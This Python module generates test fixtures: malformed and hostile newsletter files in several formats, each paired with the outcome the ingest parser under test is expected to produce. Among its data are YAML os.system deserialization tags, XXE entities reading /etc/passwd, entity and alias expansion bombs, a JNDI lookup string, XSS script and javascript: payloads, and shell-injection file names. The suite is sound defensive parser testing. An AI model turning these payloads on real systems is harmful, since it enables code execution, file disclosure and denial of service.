"""A generator of malformed issue files, and of good ones to index beside them.

Each malformed file belongs to a class (bytes and encodings, front matter, sizes, structure,
HTML, feeds, names); each says what must happen to it:

- `fail`: the ingest names it with a reason containing `reason` (when given);
- `index`: it is odd but readable, and its issue is stored;
- `either`: stored or named, never silently dropped, never a crash.

Hostile payloads (brackets, markup, Unicode, links) are also embedded in every format (Markdown
title and text, plain text, HTML, RSS, Atom), so each parser meets each of them. Deterministic:
the same files on every run. The texts are made up here; no newsletter's text is copied.
"""
from __future__ import annotations

import random
from dataclasses import dataclass
from pathlib import Path
from typing import Literal
from xml.sax.saxutils import escape

__all__ = ["Case", "write_malformed", "write_good", "PWNED_MARKER"]

Expect = Literal["fail", "index", "either"]
PWNED_MARKER = "kb-abuse-pwned"  # a file a YAML or XML exploit would create or read


@dataclass(frozen=True)
class Case:
    name: str
    kind: str
    expect: Expect
    reason: str = ""


_numbers = iter(range(1_000, 100_000))  # every Markdown file its own issue number (a repeat is a failure)


def _md(title: str = "Weekly", issue: str | None = None, day: str = "2024-01-05", body: str | None = None,
        front: str | None = None) -> str:
    issue = issue if issue is not None else str(next(_numbers))
    body = body if body is not None else "- [A tool](https://e.org/t) does things.\n- [A paper](https://e.org/p) shows more.\n"
    front = front if front is not None else f"title: {title}\nissue: {issue}\ndate: {day}\n"
    return f"---\n{front}---\n# {title}\n\n## News\n\n{body}"


def _txt(title: str, body: str) -> str:
    return f"{title}\n\nNews\n\n{body}\nhttps://e.org/a\n\nAnother item about tools\nhttps://e.org/b\n"


def _html(title: str, body: str) -> str:
    return (f"<html><head><title>{title}</title></head><body><h1>{title}</h1><h2>News</h2>"
            f"<h3><a href=\"https://e.org/h\">{body}</a></h3><p>{body}</p>"
            "<h3><a href=\"https://e.org/i\">Second</a></h3><p>More text.</p></body></html>")


def _item_html(href: str, body: str) -> str:
    return escape(f'<h3><a href="{href}">{body}</a></h3><p>{body}</p>')


def _rss(title: str, body: str) -> str:
    return ('<?xml version="1.0"?><rss version="2.0"><channel><title>Feed</title><link>https://e.org</link>'
            f"<item><title>{escape(title)}</title><link>https://e.org/r/1</link>"
            "<pubDate>Fri, 05 Jan 2024 09:00:00 GMT</pubDate>"
            f"<description>{_item_html('https://e.org/x', body)}</description></item></channel></rss>")


def _atom(title: str, body: str) -> str:
    return ('<?xml version="1.0" encoding="utf-8"?><feed xmlns="http://www.w3.org/2005/Atom"><title>Feed</title>'
            f"<id>urn:f</id><updated>2024-01-05T09:00:00Z</updated><entry><title>{escape(title)}</title><id>urn:f:1</id>"
            '<link href="https://e.org/a/1"/><updated>2024-01-05T09:00:00Z</updated>'
            f'<content type="html">{_item_html("https://e.org/y", body)}</content></entry></feed>')


# Payloads every parser meets, in a title and in a text.
PAYLOADS: dict[str, str] = {
    "brackets": "[" * 5_000 + "](" * 2_000,
    "parens": "(" * 20_000,
    "angles": "<" * 20_000,
    "stars": "*" * 20_000,
    "backticks": "`" * 20_000,
    "pipes": "| a " * 5_000,
    "hashes": "#" * 20_000,
    "quotes": "> " * 5_000,
    "nested-list": "".join("  " * i + "- x\n" for i in range(300)),
    "html-comment": "<!-- never closed " * 100,
    "script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "js-link": "[click](javascript:alert(1)) [d](data:text/html,x) [f](file:///etc/passwd)",
    "paren-url": "[tool](https://e.org/a)b) and [q](https://e.org/\"x\")",
    "long-url": "https://e.org/" + "a" * 100_000,
    "control": "ti\x01tle\x07 with\x1b[31m controls\x0b\x0c",
    "nul": "nul\x00inside",
    "rtl": "\u202eevil\u202c and \u200b\u200d zero width",
    "combining": "e" + "\u0301" * 5_000,
    "emoji": "🤖" * 2_000,
    "cjk": "日本語のニュース" * 500,
    "lone-surrogate-escape": "\\ud800 \\x00 %00",
    "template": "{{x}} ${jndi:ldap://e.org/a} %s%n {0}",
    "entities": "&lol; &#0; &#xD800; &amp;amp;" * 100,
    "long-word": "a" * 200_000,
    "many-lines": "line\n" * 50_000,
    "cr-only": "one\rtwo\rthree\r" * 1_000,
    "tabs": "\t" * 50_000,
    "yaml-ish": "key: &a [*a]\n!!python/object/apply:os.system ['true']",
    "markdown-table": "|" + "---|" * 2_000 + "\n",
    "deep-emphasis": "*_" * 10_000,
}


def _write(folder: Path, name: str, data: str | bytes) -> None:
    path = folder / name
    if isinstance(data, bytes):
        path.write_bytes(data)
    else:
        path.write_text(data, encoding="utf-8", errors="surrogatepass")


def _embedded(folder: Path) -> list[Case]:
    """Each payload in each format: in a title and in an item's text."""
    cases = []
    for key, payload in PAYLOADS.items():
        short = payload[:300]
        files = {
            f"p-{key}-md-title.md": _md(title=short.replace("\n", " ") or "x", front=f"title: {short.replace(chr(10), ' ')!r}\n"
                                        f"issue: {next(_numbers)}\ndate: 2024-01-05\n"),
            f"p-{key}-md-text.md": _md(body=f"- [Item with payload](https://e.org/m) {payload}\n- [Second](https://e.org/n) ok\n"),
            f"p-{key}.txt": _txt("Plain Weekly 4", payload),
            f"p-{key}.html": _html("Html Weekly 4", payload),
            f"p-{key}.rss": _rss("Feed issue 4", payload),
            f"p-{key}.atom": _atom("Atom issue 4", payload),
        }
        for name, text in files.items():
            _write(folder, name, text)
            cases.append(Case(name, f"payload:{key}", "either"))
    return cases


def _bytes_and_encodings(folder: Path) -> list[Case]:
    rng = random.Random(3)
    cases = []
    for ext in ("md", "txt", "html", "xml", "rss", "atom"):
        _write(folder, f"empty.{ext}", b"")
        cases.append(Case(f"empty.{ext}", "empty file", "fail"))
        _write(folder, f"blank.{ext}", " \n\t\n" * 10)
        cases.append(Case(f"blank.{ext}", "blank file", "fail"))
        for seed in "abcd":
            _write(folder, f"random-{seed}.{ext}", bytes(rng.randrange(256) for _ in range(2_000 + 500 * ord(seed))))
            cases.append(Case(f"random-{seed}.{ext}", "random bytes", "either"))
    good = _md(title="Encoded")
    specific: list[tuple[str, bytes, Expect, str]] = [
        ("odd-utf16.md", "\ufeff# Hi".encode("utf-16-le") + b"\x00", "fail", "UnicodeDecodeError"),
        ("utf16-bom.md", "\ufeff".encode("utf-16-le") + good.encode("utf-16-le"), "either", ""),
        ("utf-thirty-two.md", good.encode("utf-32"), "either", ""),
        ("latin-one.md", _md(title="Caf\u00e9 News").encode("latin-1"), "either", ""),
        ("invalid-utf8.md", _md().encode() + b"\xff\xfe\xc3\x28 broken", "either", ""),
        ("bom-only.md", b"\xef\xbb\xbf", "fail", ""),
        ("nul-bytes.md", _md().encode().replace(b"tool", b"to\x00ol"), "either", ""),
        ("gzip.md", b"\x1f\x8b\x08\x00" + bytes(500), "either", ""),
        ("png.html", b"\x89PNG\r\n\x1a\n" + bytes(500), "either", ""),
        ("pdf.txt", b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + bytes(500), "either", ""),
        ("crlf.md", _md().replace("\n", "\r\n").encode(), "index", ""),
        ("cr-only.md", _md().replace("\n", "\r").encode(), "either", ""),
    ]
    for name, data, expect, reason in specific:
        _write(folder, name, data)
        cases.append(Case(name, "encoding", expect, reason))
    return cases


def _front_matter(folder: Path) -> list[Case]:
    laughs = "".join(f"{c}: &{c} [{', '.join(['*' + p] * 9)}]\n" for p, c in zip("abcdefgh", "bcdefghi"))
    pwned = f"/tmp/{PWNED_MARKER}"
    specific: list[tuple[str, str, Expect, str]] = [
        ("unclosed-front.md", "---\ntitle: x\nissue: 3\n# x\n\n- [a](https://e.org/a) b\n", "either", ""),
        ("alias-bomb.md", '---\na: &a ["lol", "lol"]\n' + laughs + "title: *i\n---\n# B\n\n- [x](https://e.org) y\n", "fail", "aliases"),
        ("alias-small.md", "---\na: &x Weekly\ntitle: *x\nissue: 3\n---\n# B\n\n- [x](https://e.org) y\n", "fail", "aliases"),
        ("python-tag.md", _md(front=f"title: !!python/object/apply:os.system ['touch {pwned}']\nissue: 3\n"), "either", ""),
        ("python-name.md", _md(front="title: !!python/name:os.system\nissue: 3\n"), "either", ""),
        ("front-list.md", _md(front="- a\n- b\n"), "either", ""),
        ("front-scalar.md", _md(front="just words\n"), "either", ""),
        ("front-tabs.md", _md(front="title:\tx\n\tissue: 3\n"), "either", ""),
        ("front-colons.md", _md(front="title: : : :\nissue: : 3\n"), "either", ""),
        ("front-deep.md", _md(front="title: " + "[" * 5_000 + "]" * 5_000 + "\n"), "either", ""),
        ("front-long-title.md", _md(front="title: " + "T" * 100_000 + "\nissue: 3\n"), "either", ""),
        ("front-title-list.md", _md(front="title: [a, b]\nissue: 3\n"), "either", ""),
        ("front-title-map.md", _md(front="title: {a: 1}\nissue: 3\n"), "either", ""),
        ("front-title-null.md", _md(front="title: null\nissue: 3\n"), "either", ""),
        ("front-binary.md", _md(front="title: !!binary aGVsbG8=\nissue: 3\n"), "either", ""),
        ("front-timestamp.md", _md(front="title: x\ndate: 2001-12-14t21:59:43.10-05:00\n"), "either", ""),
    ]
    numbers = {"huge": ("9" * 30, "fail", "is out of range"), "negative": ("-5", "fail", "-5"),
               "float": ("1.5", "either", ""), "word": ("abc", "either", ""), "exp": ("1e308", "either", ""),
               "million-and-one": ("1000001", "fail", "is out of range"), "list": ("[1, 2]", "either", ""),
               "zero": ("0", "either", ""), "hex": ("0x1F", "either", "")}
    for key, (value, expect, reason) in numbers.items():
        specific.append((f"number-{key}.md", _md(issue=value), expect, reason))
    dates = {"far-future": ("9999-12-31", "fail", "is out of range"), "year-one": ("0001-01-01", "fail", "is out of range"),
             "1899": ("1899-12-31", "fail", "is out of range"), "feb-30": ("2024-02-30", "either", ""),
             "word": ("yesterday", "either", ""), "int": ("20240101", "either", ""), "2100": ("2100-01-01", "fail", "is out of range"),
             "empty": ("''", "either", ""), "month-13": ("2024-13-01", "either", "")}
    for key, (value, expect, reason) in dates.items():
        specific.append((f"date-{key}.md", _md(day=value), expect, reason))
    cases = []
    for name, text, expect, reason in specific:
        _write(folder, name, text)
        cases.append(Case(name, "front matter", expect, reason))
    return cases


def _sizes_and_structure(folder: Path) -> list[Case]:
    cases = []
    (folder / "oversized.md").open("wb").truncate(26 * 2**20)  # sparse: costs no disk
    cases.append(Case("oversized.md", "size", "fail", "more than an issue file can be"))
    item = "- [Part](https://e.org/p) " + "text " * 19_000 + "\n"
    specific: list[tuple[str, str, Expect, str]] = [
        ("prose-only.md", "just a line of prose and nothing else\n", "fail", "no items"),
        ("headings-only.md", "# A\n\n## B\n\n### C\n", "either", ""),
        ("too-many-items.md", _md(body="".join(f"- [Item {i}](https://e.org/{i}) text\n" for i in range(2_100))), "fail",
         "items in one issue"),
        ("too-much-text.md", _md(body=item * 25), "fail", "characters of item text in one issue"),
        ("long-item.md", _md(body="- [Long](https://e.org/l) " + "words " * 30_000 + "\n"), "index", ""),
        ("long-line.md", "# X\n\n- " + "abc " * 500_000 + "\n", "either", ""),
        ("only-links.md", _md(body="https://e.org/a\n" * 500), "either", ""),
        ("long-section.md", _md(body="## " + "Section " * 6_000 + "\n\n- [A](https://e.org/s) text\n"), "index", ""),
        ("long-publication.md", _md(front="publication: " + "Pub " * 10_000 + "\nissue: 7\n"), "index", ""),
        ("long-tags.md", _md(front="tags: [" + "tag" * 20_000 + ", b]\nissue: 8\n"), "index", ""),
        ("long-title.md", _md(body="- [" + "Title " * 10_000 + "](https://e.org/lt) text\n"), "index", ""),
        ("long-url.md", _md(body="- [Link](https://e.org/" + "u" * 40_000 + ") text\n"), "index", ""),
        ("dup-items.md", _md(body="- [Same](https://e.org/s) same\n" * 50), "either", ""),
        ("items-no-links.md", _md(body="- just text\n" * 50), "either", ""),
    ]
    html = {
        "unclosed.html": "<html><body><h1>T" + "<div><p><a href='https://e.org'>x" * 200,
        "nested.html": "<html><body>" + "<div>" * 10_000 + "<a href='https://e.org/n'>deep</a>" + "</div>" * 10_000,
        "script-only.html": "<html><script>" + "var a=1;" * 5_000 + "</script></html>",
        "style-only.html": "<html><style>" + "a{b:c}" * 5_000 + "</style></html>",
        "comment-open.html": "<html><body><!-- " + "x" * 10_000,
        "huge-attr.html": "<html><body><a href='https://e.org/" + "a" * 200_000 + "'>x</a><p>t</p></body></html>",
        "bad-charset.html": "<html><head><meta charset='x-nonsense-42'></head><body><h3><a href='https://e.org/c'>C</a></h3><p>t</p></body></html>",
        "doctype-entities.html": '<!DOCTYPE html [<!ENTITY a "' + "x" * 100 + '">]><html><body>&a;&a;</body></html>',
        "frameset.html": "<frameset><frame src='javascript:alert(1)'></frameset>",
        "js-hrefs.html": "<html><body>" + "<h3><a href='javascript:alert(1)'>J</a></h3><p>t</p>" * 20 + "</body></html>",
    }
    feeds = {
        "xxe.rss": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><title>&x;</title><item><title>&x;</title><link>https://e.org/x</link><description>&x;</description></item></channel></rss>',
        "xxe-param.xml": f'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "file:///tmp/{PWNED_MARKER}"> %p;]><rss><channel><item><title>t</title><link>https://e.org</link></item></channel></rss>',
        "laughs.rss": '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol">' + "".join(
            f'<!ENTITY {c} "{("&" + p + ";") * 10}">' for p, c in zip("abcdefgh", "bcdefghi")) +
            ']><rss><channel><item><title>&i;</title><link>https://e.org</link></item></channel></rss>',
        "truncated.rss": _rss("Cut", "body")[:200],
        "no-items.rss": '<?xml version="1.0"?><rss version="2.0"><channel><title>Empty</title></channel></rss>',
        "no-links.rss": '<?xml version="1.0"?><rss version="2.0"><channel><title>F</title>' + "<item><title>t</title></item>" * 5 + "</channel></rss>",
        "bad-dates.atom": _atom("Dated", "body").replace("2024-01-05T09:00:00Z", "not a date"),
        "not-xml.xml": "this is not xml at all\n" * 10,
        "deep.xml": "<?xml version='1.0'?>" + "<a>" * 50_000 + "</a>" * 50_000,
        "many-entries.atom": _atom("Many", "body").replace("</feed>", "") + "".join(
            f"<entry><title>E{i}</title><id>urn:e:{i}</id><link href='https://e.org/e/{i}'/><updated>2024-01-05T09:00:00Z</updated>"
            f"<content type='html'>&lt;p&gt;x&lt;/p&gt;</content></entry>" for i in range(3_000)) + "</feed>",
        "rss-js-links.rss": _rss("JS", "body").replace("https://e.org/r/1", "javascript:alert(1)"),
        "atom-xhtml-script.atom": _atom("X", "<script>alert(1)</script>"),
        "wrong-root.xml": '<?xml version="1.0"?><html><body>not a feed</body></html>',
    }
    for name, text, expect, reason in specific:
        _write(folder, name, text)
        cases.append(Case(name, "structure", expect, reason))
    for name, text in html.items():
        _write(folder, name, text)
        cases.append(Case(name, "html", "either"))
    for name, text in feeds.items():
        _write(folder, name, text)
        cases.append(Case(name, "feed", "either"))
    return cases


def _names(folder: Path) -> list[Case]:
    cases = []
    for i, name in enumerate(["with spaces.md", "ünïcödé-名前.md", "-rf.md", "a" * 200 + ".md", "semi;colon.md",
                              "quote'd\".md", "$(touch x).md", "new\nline.md", "dots..in..name.md", "UPPER.MD"]):
        _write(folder, name, _md(title=f"Named {i}"))
        cases.append(Case(name, "file name", "index"))
    (folder / "broken-link.md").symlink_to(folder / "does-not-exist.md")
    cases.append(Case("broken-link.md", "file name", "fail", "does-not-exist.md"))
    (folder / "loop").mkdir()
    (folder / "loop" / "again").symlink_to(folder / "loop")  # a folder that contains itself
    return cases


def write_malformed(folder: Path) -> list[Case]:
    """Writes every malformed file into `folder` (created) and says what must happen to each."""
    global _numbers
    _numbers = iter(range(1_000, 100_000))
    folder.mkdir(parents=True, exist_ok=True)
    cases = [*_bytes_and_encodings(folder), *_front_matter(folder), *_sizes_and_structure(folder),
             *_embedded(folder), *_names(folder)]
    assert len({c.name for c in cases}) == len(cases), "case names are unique"
    return cases


GOOD_WORDS = ("quokkatron", "xylocarp", "zenithal", "brambleworth", "ossiferous", "plinthwork")


def write_good(folder: Path) -> dict[str, str]:
    """Good files in every format, each with a word found nowhere else: file name -> its word."""
    folder.mkdir(parents=True, exist_ok=True)
    words = iter(GOOD_WORDS)
    files = {
        "good-101.md": lambda w: _md(title="Good Weekly", issue="101", body=f"- [The {w} release](https://g.org/1) is out.\n- [Other](https://g.org/2) news.\n"),
        "good-102.md": lambda w: _md(title="Good Weekly", issue="102", day="2024-02-02", body=f"- [About {w}](https://g.org/3) details.\n- [More](https://g.org/4) news.\n"),
        "good-103.txt": lambda w: _txt("Plain Good 103", f"The {w} toolkit arrives"),
        "good-104.html": lambda w: _html("Html Good 104", f"The {w} paper"),
        "good-105.rss": lambda w: _rss("Good feed 105", f"The {w} model"),
        "good-106.atom": lambda w: _atom("Good atom 106", f"The {w} dataset"),
    }
    out = {}
    for name, make in files.items():
        word = next(words)
        _write(folder, name, make(word))
        out[name] = word
    return out
